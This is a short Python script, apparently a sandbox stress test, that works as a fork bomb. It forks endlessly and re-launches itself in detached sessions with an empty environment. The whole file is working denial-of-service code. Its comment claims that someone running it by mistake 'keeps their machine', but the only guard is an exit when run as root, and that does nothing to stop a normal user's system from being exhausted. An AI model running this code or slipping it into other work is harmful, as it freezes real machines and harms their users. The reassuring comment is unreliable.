# Forks as fast as it can, each child in a session of its own and without the marks of its environment.
import os, sys

# Whoever runs this by mistake, outside of any sandbox, keeps their machine.
if os.getuid() == 0:
    sys.exit(1)
while True:
    try:
        if os.fork() == 0:
            os.setsid()
            os.execve(sys.executable, [sys.executable, *sys.argv], {})
    except OSError:
        pass
